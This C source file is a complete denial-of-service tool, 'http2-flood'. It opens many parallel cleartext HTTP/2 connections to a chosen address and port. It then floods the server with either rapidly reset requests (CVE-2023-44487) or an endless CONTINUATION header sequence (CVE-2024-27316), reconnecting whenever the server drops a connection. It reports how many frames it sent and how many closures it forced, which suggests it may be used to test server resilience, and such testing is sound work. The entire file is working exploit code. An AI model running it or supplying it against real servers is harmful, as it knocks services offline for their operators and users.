/*
 * Clients of HTTP/2 (without TLS, RFC 9113 3.3) that send frames as fast as they are taken. One that is refused or closed
 * begins again. Runs until stdin ends or the time is over; then prints `FRAMES CLOSED_BY_THE_SERVER`.
 *
 * http2-flood reset ADDRESS PORT CONNECTIONS SECONDS         requests that are reset at once (CVE-2023-44487)
 * http2-flood continuation ADDRESS PORT CONNECTIONS SECONDS  a header that never ends (CVE-2024-27316 and others)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "clock.h"

enum { HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, CONTINUATION = 9, END_STREAM = 1, END_HEADERS = 4, CANCEL = 8 };
#define FRAME_BYTES 16384
#define REQUESTS 256

struct client {
	int fd;
	uint32_t stream;
	size_t length, sent;
	uint8_t out[2 * FRAME_BYTES];
};

static bool resets;
static long frames, closed;
/* GET http://b/ by HPACK's static table (RFC 7541, appendix A), with a literal authority. */
static const uint8_t request[] = { 0x82, 0x86, 0x84, 0x01, 1, 'b' };

static void put(struct client *c, int type, int flags, uint32_t stream, const uint8_t *payload, size_t length)
{
	uint8_t head[] = { length >> 16, length >> 8, length, type, flags, stream >> 24, stream >> 16, stream >> 8, stream };

	memcpy(c->out + c->length, head, sizeof(head));
	memcpy(c->out + c->length + sizeof(head), payload, length);
	c->length += sizeof(head) + length;
	frames++;
}

static void begin(struct client *c, const struct sockaddr_in *to)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	connect(c->fd, (const struct sockaddr *)to, sizeof(*to));
	c->stream = 1;
	c->sent = 0;
	c->length = sizeof(preface) - 1;
	memcpy(c->out, preface, c->length);
	put(c, SETTINGS, 0, 0, NULL, 0);
	if (!resets)
		put(c, HEADERS, END_STREAM, 1, request, sizeof(request));
}

static void more(struct client *c)
{
	static const uint8_t cancel[] = { 0, 0, 0, CANCEL };
	static uint8_t fields[FRAME_BYTES];

	c->length = c->sent = 0;
	if (!resets) {
		for (size_t at = 0; at + 5 <= sizeof(fields); at += 5)
			memcpy(fields + at, (uint8_t[]){ 0, 1, 'a', 1, 'b' }, 5);
		put(c, CONTINUATION, 0, 1, fields, sizeof(fields) / 5 * 5);
		return;
	}
	for (int n = 0; n < REQUESTS; n++, c->stream += 2) {
		put(c, HEADERS, END_STREAM | END_HEADERS, c->stream, request, sizeof(request));
		put(c, RST_STREAM, 0, c->stream, cancel, sizeof(cancel));
	}
}

/* Whether the connection lives. */
static bool go_on(struct client *c, short events)
{
	static uint8_t answers[65536];
	ssize_t n;

	if (events & POLLIN) {
		n = recv(c->fd, answers, sizeof(answers), MSG_DONTWAIT);
		if (n == 0 || (n < 0 && errno != EAGAIN))
			return false;
	}
	if (events & POLLOUT) {
		if (c->sent == c->length)
			more(c);
		n = send(c->fd, c->out + c->sent, c->length - c->sent, MSG_NOSIGNAL | MSG_DONTWAIT);
		if (n < 0 && errno != EAGAIN)
			return false;
		c->sent += n > 0 ? n : 0;
	}
	return !(events & (POLLERR | POLLHUP)) && c->stream < 1u << 30;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct client *clients;
	struct pollfd *ready;
	long long until;
	int count;

	if (argc != 6 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1)
		return 2;
	resets = strcmp(argv[1], "reset") == 0;
	to.sin_port = htons(atoi(argv[3]));
	count = atoi(argv[4]);
	clients = calloc(count, sizeof(*clients));
	ready = calloc(count + 1, sizeof(*ready));
	for (int n = 0; n < count; n++)
		begin(&clients[n], &to);
	until = now_ns() + atoll(argv[5]) * SECOND;
	while (now_ns() < until) {
		for (int n = 0; n < count; n++)
			ready[n] = (struct pollfd){ .fd = clients[n].fd, .events = POLLIN | POLLOUT };
		ready[count] = (struct pollfd){ .fd = 0, .events = POLLIN };
		poll(ready, count + 1, 100);
		if (ready[count].revents)
			break;
		for (int n = 0; n < count; n++) {
			if (!ready[n].revents || go_on(&clients[n], ready[n].revents))
				continue;
			closed++;
			close(clients[n].fd);
			begin(&clients[n], &to);
		}
	}
	printf("%ld %ld\n", frames, closed);
	return 0;
}
